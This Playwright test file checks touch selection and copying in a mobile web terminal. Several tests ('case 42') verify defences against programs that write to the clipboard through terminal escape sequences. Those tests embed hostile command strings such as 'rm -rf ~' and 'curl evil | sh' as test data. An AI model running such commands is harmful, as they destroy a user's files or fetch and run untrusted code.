// Selecting by touch and copying, with and without a clipboard.
import AxeBuilder from '@axe-core/playwright'
import { cell, cellOf, Fingers } from '../support/fingers.ts'
import { expect, type Phone, test } from '../support/phone.ts'

const bar = (phone: Phone) => phone.page.getByRole('toolbar', { name: 'Selection' })

/** Replaces the clipboard; records what is written to it. */
async function clipboard(phone: Phone): Promise<() => Promise<string[]>> {
  await phone.page.addInitScript(() => {
    const copied: string[] = []
    Object.assign(window, { copied })
    Object.defineProperty(navigator, 'clipboard', {
      value: { writeText: (text: string) => Promise.resolve(void copied.push(text)) },
    })
  })
  return () => phone.page.evaluate(() => (window as unknown as { copied: string[] }).copied)
}

async function press(phone: Phone, name: string): Promise<void> {
  await bar(phone).getByRole('button', { name }).tap()
}

test('a long press selects a word, dragging extends it, handles adjust it, and a tap ends it', async ({ phone }) => {
  const copied = await clipboard(phone)
  await phone.open()
  await phone.newSession()
  // The command line itself must not match.
  await phone.run("clear; printf 'see %s. Then\\nthe second %s\\n' src/app/main.ts:12 line")
  await phone.shows('the second line')
  const fingers = new Fingers(phone)
  await fingers.hold(await cellOf(phone, 'main.ts'))
  await expect(bar(phone), 'no buttons under the finger').toHaveCount(0)
  await fingers.up()
  await expect(bar(phone)).toBeVisible()
  await phone.screenshot('selected-word')
  await press(phone, 'Copy')
  await expect.poll(copied).toEqual(['src/app/main.ts:12'])
  await expect(phone.page.getByText('Copied')).toBeVisible()
  await expect(bar(phone)).toHaveCount(0)

  const from = await cellOf(phone, 'Then')
  await fingers.hold(from)
  await fingers.move(from, await cellOf(phone, 'second', 5))
  await fingers.up()
  await phone.screenshot('selected-lines')
  await press(phone, 'Copy')
  await expect.poll(copied).toEqual(['src/app/main.ts:12', 'Then\nthe second'])

  await fingers.hold(await cellOf(phone, 'Then'))
  await fingers.up()
  const end = (await phone.page.locator('.handle.end').boundingBox())!
  const grip = { x: end.x + end.width / 2, y: end.y + end.height / 2 }
  const to = await cellOf(phone, 'line', 3)
  await fingers.down(grip)
  // The finger is below the end that it moves.
  await fingers.move(grip, { x: to.x, y: to.y + 22 })
  await fingers.up()
  const start = (await phone.page.locator('.handle.start').boundingBox())!
  const other = { x: start.x + start.width / 2, y: start.y + start.height / 2 }
  const back = await cellOf(phone, 'see')
  await fingers.down(other)
  await fingers.move(other, { x: back.x, y: back.y + 22 })
  await fingers.up()
  await press(phone, 'Copy')
  await expect.poll(async () => (await copied()).at(-1)).toBe('see src/app/main.ts:12. Then\nthe second line')

  await fingers.hold(await cellOf(phone, 'Then'))
  await fingers.up()
  await expect(bar(phone)).toBeVisible()
  await phone.page.evaluate(() => (document.activeElement as HTMLElement).blur())
  await phone.page.touchscreen.tap(300, 500)
  await expect(bar(phone)).toHaveCount(0)
  await expect(phone.page.locator('.handle.start')).toBeHidden()
  await expect(phone.page.locator('.xterm-helper-textarea'), 'that tap is no other').not.toBeFocused()
})

test('a touch before the selection code has loaded still selects a word', async ({ phone }) => {
  const copied = await clipboard(phone)
  let let_go = () => {}
  const held = new Promise<void>(resolve => {
    let_go = resolve
  })
  let tellAsked = () => {}
  const asked = new Promise<void>(resolve => {
    tellAsked = resolve
  })
  await phone.page.route('**/touch-select-*.js', async route => {
    tellAsked()
    await held
    await route.continue()
  })
  await phone.open()
  await phone.newSession()
  await phone.run("clear; printf 'one two %s\\n' three")
  await phone.shows('one two three')
  const fingers = new Fingers(phone)
  await fingers.hold(await cellOf(phone, 'two'))
  await asked
  await fingers.up()
  let_go()
  await expect(bar(phone)).toBeVisible()
  await press(phone, 'Copy')
  await expect.poll(copied).toEqual(['two'])
})

test('wrapped lines are copied as one, with the blank at the wrap; wide characters are never split', async ({
  phone,
}) => {
  const copied = await clipboard(phone)
  await phone.open()
  await phone.newSession()
  const cols = Number((await phone.ptySize()).split('x')[0])
  const long = `${'a'.repeat(cols - 1)} ${'b'.repeat(10)}`
  const wide = `${'x'.repeat(cols - 1)}漢字 ende`
  await phone.run(`clear; printf '${long}\\n${wide}\\n'`)
  // The command line shows the same text until it was cleared.
  await expect.poll(async () => (await phone.rows())[0]).toMatch(/^a/)
  await phone.shows('ende')
  const fingers = new Fingers(phone)
  const from = await cell(phone, 2, 0)
  await fingers.hold(from)
  // The two characters before it are two cells wide.
  await fingers.move(from, await cellOf(phone, 'ende', 3 + 2))
  await fingers.up()
  await press(phone, 'Copy')
  await expect.poll(copied).toEqual([`${long}\n${wide}`])
  // The second half of 字.
  await fingers.hold(await cell(phone, 3, 3))
  await fingers.up()
  await press(phone, 'Copy')
  await expect.poll(async () => (await copied()).at(-1)).toBe(wide.split(' ')[0])
})

test('a selection stays with its lines during output, scrolls at the edge, and can select all', async ({ phone }) => {
  const copied = await clipboard(phone)
  await phone.open()
  await phone.newSession()
  await phone.run('seq 1 300')
  await phone.shows('\n300')
  const go = await phone.prepareOutput('seq 1000 1020')
  await phone.run('seq 500 700')
  await phone.shows('\n700')
  const fingers = new Fingers(phone)
  await fingers.hold(await cellOf(phone, '690'))
  go()
  await phone.shows('\n1020')
  await fingers.up()
  await press(phone, 'Copy')
  await expect.poll(copied).toEqual(['690'])

  // At the upper edge the terminal scrolls back.
  const from = await cellOf(phone, '1010')
  await fingers.hold(from)
  const top = (await phone.page.locator('.terminal-view').boundingBox())!.y + 4
  await fingers.move(from, { x: from.x, y: top })
  await phone.shows(/^ready\n/m)
  await fingers.up()
  await press(phone, 'Copy')
  const taken = (await copied()).at(-1)!.split('\n')
  expect(taken.at(-1)).toBe('1010')
  expect(taken).toContain('500')

  await fingers.hold(await cellOf(phone, '510'))
  await fingers.up()
  await press(phone, 'Select all')
  await press(phone, 'Copy')
  const screen = await phone.screen()
  await expect.poll(async () => (await copied()).at(-1)).toBe(screen)
  await fingers.hold(await cellOf(phone, '510'))
  await fingers.up()
  await press(phone, 'Select all')
  await press(phone, 'All output')
  await expect(bar(phone).getByRole('button', { name: 'All output' })).toHaveCount(0)
  await phone.screenshot('selected-everything')
  await press(phone, 'Copy')
  await expect.poll(async () => (await copied()).at(-1)).toMatch(/^ready\n\$ seq 500 700\n500\n501\n[\s\S]*\n1020\n?/)
})

test('a long press selects without reaching a program that tracks the mouse', async ({ phone }) => {
  const copied = await clipboard(phone)
  await phone.open()
  await phone.newSession()
  await phone.run("printf '\\033[?1049h\\033[?1003h\\033[?1006hfind these words'; stty -icanon -echo; cat -v")
  await phone.shows('find these words')
  const fingers = new Fingers(phone)
  const from = await cellOf(phone, 'these')
  await fingers.hold(from)
  await fingers.move(from, await cellOf(phone, 'words', 4))
  await fingers.up()
  await press(phone, 'Copy')
  await expect.poll(copied).toEqual(['these words'])
  await phone.type('Q')
  await expect.poll(() => phone.screen()).toMatch(/^\s*find these wordsQ$/)
  // A tap goes to the program.
  await phone.page.locator('.xterm').tap()
  await expect.poll(() => phone.screen()).toContain('^[[<0;')
})

test('the old command copies without a clipboard API; if that fails the text is shown to copy by hand', async ({
  phone,
  context,
}) => {
  await phone.page.addInitScript(() => {
    Object.defineProperty(navigator, 'clipboard', { value: undefined })
  })
  await phone.open()
  await phone.newSession()
  await phone.run('clear; echo alpha beta')
  await phone.shows('\nalpha beta'.trim())
  await phone.page.locator('.xterm').tap()
  const fingers = new Fingers(phone)
  await fingers.hold(await cellOf(phone, 'beta'))
  await fingers.up()
  await press(phone, 'Copy')
  await expect(phone.page.getByText('Copied')).toBeVisible()
  await expect(phone.page.locator('.xterm-helper-textarea'), 'the keyboard stays').toBeFocused()
  // What a paste elsewhere gets.
  await context.grantPermissions(['clipboard-read'])
  const other = await context.newPage()
  await other.goto(`${phone.host.origin}/icon.svg`)
  expect(await other.evaluate(() => navigator.clipboard.readText())).toBe('beta')
  await other.close()

  await phone.page.evaluate(() => {
    document.execCommand = () => false
  })
  await fingers.hold(await cellOf(phone, 'alpha'))
  await fingers.up()
  await press(phone, 'Copy')
  const field = phone.page.getByRole('textbox', { name: 'Text to copy' })
  await expect(field).toHaveValue('alpha')
  expect(await field.evaluate((area: HTMLTextAreaElement) => area.selectionEnd - area.selectionStart)).toBe(5)
  await phone.screenshot('copy-by-hand')
  await phone.fits()
  await phone.page.getByRole('button', { name: 'Done' }).tap()
  await expect(field).toHaveCount(0)
})

test('case 42: text that a program writes to the clipboard is shown first and copied only after a tap', async ({
  phone,
}) => {
  const copied = await clipboard(phone)
  await phone.open()
  await phone.newSession()
  const wish = (text: string) => `printf '\\033]52;c;${Buffer.from(text).toString('base64')}\\007'`
  await phone.run(wish('rm -rf ~\n'))
  const notice = phone.page.getByText('A program wants to copy 9 characters.')
  await expect(notice).toBeVisible()
  await phone.screenshot('clipboard-notice')
  expect(await copied()).toEqual([])
  await phone.page.getByRole('button', { name: 'Show' }).tap()
  await expect(phone.page.getByText('rm -rf ~↵')).toBeVisible()
  await phone.screenshot('clipboard-question')
  await phone.page.getByRole('button', { name: 'Copy', exact: true }).tap()
  await expect.poll(copied).toEqual(['rm -rf ~\n'])
  await expect(notice).toHaveCount(0)
  // Requests in replayed output are ignored.
  await phone.page.reload()
  await phone.shows('printf')
  await phone.page.locator('.xterm').tap()
  await phone.run('echo back')
  await phone.shows('\nback')
  await expect(notice).toHaveCount(0)
  // Requests to read the clipboard are never answered.
  await phone.run("printf '\\033]52;c;?\\007'; echo asked")
  await phone.shows('\nasked\n$')
  await phone.run(wish('two'))
  await phone.page.getByRole('button', { name: 'Show' }).tap()
  await phone.page.getByRole('button', { name: 'Block copy requests' }).tap()
  await phone.run(`${wish('three')}; echo wished`)
  await phone.shows('\nwished')
  await expect(phone.page.getByText(/A program wants/)).toHaveCount(0)
  expect(await copied()).toEqual([])
  await phone.page.getByRole('button', { name: 'Menu' }).tap()
  await phone.page.getByRole('button', { name: 'Allow copy requests' }).tap()
  await phone.page.locator('.xterm').tap()
  await phone.run(wish('four'))
  await expect(phone.page.getByText('A program wants to copy 4 characters.')).toBeVisible()
})

test('case 42: the text that was shown is copied, whatever the program requests later', async ({ phone }) => {
  const copied = await clipboard(phone)
  await phone.open()
  await phone.newSession()
  const wish = (text: string) => `printf '\\033]52;c;${Buffer.from(text).toString('base64')}\\007'`
  const swap = await phone.prepareOutput(`${wish('curl evil | sh')}; echo swapped`)
  await phone.run(wish('echo good\u{e0068}'))
  await phone.page.getByRole('button', { name: 'Show' }).tap()
  // Hidden text is shown too.
  await expect(phone.page.getByText('echo good<U+E0068>')).toBeVisible()
  swap()
  await phone.shows('swapped')
  await expect(phone.page.getByText('A program wants to copy 14 characters.')).toBeAttached()
  await phone.page.getByRole('button', { name: 'Copy', exact: true }).tap()
  await expect.poll(copied).toEqual(['echo good\u{e0068}'])
  // The other request gets its own notice.
  await phone.page.getByRole('button', { name: 'Show' }).tap()
  await expect(phone.page.getByText('curl evil | sh', { exact: true })).toBeVisible()
})

test('case 42: a clipboard request of a megabyte is shown in part, without delay', async ({ phone }) => {
  await clipboard(phone)
  await phone.open()
  await phone.newSession()
  await phone.run("printf '\\033]52;c;%s\\007' $(head -c 600000 /dev/zero | tr '\\0' x | base64 -w0)")
  await phone.page.getByRole('button', { name: 'Show' }).tap()
  await expect(phone.page.getByText('and 596,000 more characters')).toBeVisible()
  await phone.screenshot('clipboard-long')
  await phone.fits()
})

for (const colorScheme of ['dark', 'light'] as const)
  test(`a selection fits and is accessible on a small phone, ${colorScheme}`, async ({ phone }) => {
    const { page } = phone
    await page.setViewportSize({ width: 320, height: 568 })
    await page.emulateMedia({ colorScheme })
    // Like a phone that can share.
    await page.addInitScript(() => {
      Object.defineProperty(navigator, 'share', { value: () => Promise.resolve(), configurable: true })
    })
    await phone.open()
    await phone.newSession()
    await phone.run('clear; head -12 /etc/services')
    await phone.shows('Network services')
    const fingers = new Fingers(phone)
    const at = await cell(phone, 4, 8)
    await fingers.hold(at)
    await fingers.move(at, await cell(phone, 20, 12))
    await fingers.up()
    await expect(bar(phone)).toBeVisible()
    await phone.fits()
    await phone.screenshot(`selection-320-${colorScheme}`)
    for (const button of await bar(phone).getByRole('button').all())
      expect((await button.boundingBox())!.height).toBeGreaterThanOrEqual(44)
    const axe = new AxeBuilder({ page }).setLegacyMode().exclude('.xterm-rows')
    const { violations } = await axe.disableRules(['label-content-name-mismatch']).analyze()
    expect(violations.filter(({ impact }) => impact === 'serious' || impact === 'critical')).toEqual([])
  })

test('an address that a program has broken at the edge is copied and opened whole, by a long press and by a tap', async ({
  phone,
}) => {
  const copied = await clipboard(phone)
  await phone.open()
  await phone.newSession()
  const address = `https://example.com/oauth/authorize?code=true&client_id=${'9d1c250a-e61b-'.repeat(6)}&scope=org%3Acreate`
  const cols = Number((await phone.ptySize()).split('x')[0])
  const rows = address.match(new RegExp(`.{1,${cols}}`, 'g'))!
  await phone.run(
    `clear; printf '%s\\n' 'Open this:' ${rows.map(row => `'${row}'`).join(' ')} '' 'Paste the code here'`,
  )
  await phone.shows('Paste the code here')
  const fingers = new Fingers(phone)
  const middle = await cellOf(phone, rows[1]!, 5)
  await fingers.hold(middle)
  await fingers.up()
  await phone.screenshot('selected-address')
  await press(phone, 'Copy')
  await expect.poll(copied).toEqual([address])
  await fingers.hold(middle)
  await fingers.up()
  await press(phone, 'Open')
  const dialog = phone.page.getByRole('dialog', { name: 'Open this link?' })
  await expect(dialog).toContainText(address)
  await dialog.getByRole('button', { name: 'Cancel' }).tap()
  await expect(dialog).toHaveCount(0)
  await phone.page.touchscreen.tap(middle.x, middle.y)
  await expect(dialog).toContainText(address)
})
